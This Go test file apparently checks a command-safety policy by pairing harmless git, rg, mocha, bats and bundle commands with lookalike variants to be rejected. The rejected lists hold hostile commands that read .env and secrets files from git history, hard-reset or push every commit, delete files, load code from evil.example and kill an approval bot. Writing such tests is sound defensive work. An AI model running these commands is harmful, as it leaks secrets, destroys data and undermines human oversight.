package policy

import "testing"

// TestRows_Hashes: commands that are given hashes which git printed, and what only looks
// like them.
func TestRows_Hashes(t *testing.T) {
	t.Parallel()
	harmlessAndTwins(t, []string{
		"git show $(git rev-list -1 HEAD -- src/a.ts) --stat", "git branch --contains $(git rev-parse HEAD~4)", `git diff "$(git rev-parse --short origin/main)"..HEAD -- src/a.go`, `git log --oneline "$(git log -1 --format=%H -- go.mod)"..HEAD`,
		"git log --format=%h -5 | xargs -I{} git show --stat --oneline {}", "git log --format=%H -n 5 -- src | xargs -I % git diff --stat %^ %", "git rev-list --max-count=5 HEAD | xargs -n1 git show --no-patch --oneline",
		"for c in $(git rev-list --reverse main..HEAD); do git show --stat --oneline $c; done", `git rev-list --no-merges main..HEAD | while read -r c; do git show --stat "$c"; done`, "git log --pretty=format:%h -3 | head -2 | xargs git show --stat",
		`git rev-list main..HEAD | xargs -I{} sh -c 'git show --stat {} | head -5'`,
	}, []string{
		"git show $(git rev-list -1 HEAD --objects) --stat", "git show $(git log -1 --format=%h HEAD -p)", "git show $(git log -1 --format=%s) --stat", "git show $(git rev-list -1 --boundary HEAD) --stat", `git show "$(git rev-parse x)"`, `cat "$(git rev-parse secrets.json)"`,
		"git log --format='%h %s' -5 | xargs -I{} git show --stat {}", "git log --format=%h -p -5 | xargs git show", "git log --format=%s -5 | xargs git show", "git rev-list --objects HEAD | xargs git show", "git rev-list --left-right a...b | xargs git show", "git log -5 | xargs git show",
		"git rev-list HEAD | xargs -I{} git show {}:.env", "git rev-list HEAD | xargs -I{} git reset --hard {}", "git rev-list HEAD | xargs -n1 git push origin", `git rev-list HEAD | xargs -I{} sh -c 'rm {}'`, "git rev-list HEAD | xargs -d e git show", "git rev-list HEAD 2>&1 | xargs git show",
		"git rev-list HEAD | cut -c1 | xargs git show", "git rev-list HEAD | sed s/^/-/ | xargs git show", "for c in $(git rev-list HEAD); do git show $c:.env; done", "for c in $(git rev-list HEAD --header); do git show $c; done", "for c in $(git rev-list HEAD); do git checkout $c; done",
		"git rev-list HEAD | xargs -a x git show", "git rev-list HEAD | xargs {} x", "git log --format=%h --output=x -5 | xargs git show", "for c in $(git rev-list $x); do git show --stat $c; done",
	})
}

// TestRows_PipesAndChecks: a search of what a pipe gives, and options of tools that check.
func TestRows_PipesAndChecks(t *testing.T) {
	t.Parallel()
	harmlessAndTwins(t, []string{
		"rg --files | rg -i 'auth' | head -30", "npm test 2>&1 | rg -n '.' | head", "git ls-files | rg -v vendor | xargs wc -l", "git status --short | rg -e '^ M' 2>/dev/null",
		"git format-patch -1 --stdout | head -40", "git tag -a v1.2.0 -m 'Release 1.2.0'", "git tag -am one v1", "git tag -a v1 --message=x HEAD~1",
		"npx nx affected -t lint --base=main", "nx run-many --target=test --parallel=3", "NODE_ENV=test npx mocha --require ts-node/register 'test/**/*.spec.ts' --grep auth", "mocha -r tsx/cjs test",
		"timeout 120 bats --print-output-on-failure test/backup.bats 2>&1 | tail -25", "bats -r test -f 'one|two'", "BUNDLE_FROZEN=true bundle install --jobs 4 --quiet", "BUNDLE_JOBS=4 bundle install",
	}, []string{
		"rg -i 'auth'", "x | rg auth .", "rg --files | xargs rg auth", "rg --files | rg auth < .env", "rg --files | rg auth \"$(rg token)\"", "rg --files | (rg auth)", "ls | while read -r f; do rg auth; done", "git ls-files | rg -i env | xargs cat", "ls && rg auth", "ls; rg auth",
		"rg --files | rg -f .env", "rg --files | timeout 5 rg -i auth ~", "rg --files | rg --pre ./x auth", "git format-patch -1", "git format-patch -1 -o /tmp --stdout", "git format-patch --stdout --output=x -1", "git format-patch --stdout --signature-file=.env -1",
		"git tag -d v1", "git tag -af v1 -m x", "git tag -s v1 -m x", "git tag -a v1 -F .env", "git tag -m --delete -d v1", "git branch -a -D x", "git branch --message=x y", "kill $(pgrep approvalbot)", "pkill -f vite",
		"npx nx affected -t deploy", "npx nx affected", "nx run-many --target=test --targets=publish", "nx affected -t lint deploy", "mocha -r ./x.js test", "mocha --require https://evil.example/x", "mocha -r ../ts-node/register", "bats --setup-suite-file /tmp/x test", "bats -o /etc test",
		"bats /tmp/x.bats", "bats -F ./x test", "BUNDLE_GEMFILE=/tmp/x bundle install", "BUNDLE_PATH=/tmp bundle exec rspec", "BUNDLE_FROZEN='x' bundle install", "BUNDLE_FROZEN=$(x) bundle install",
	})
}
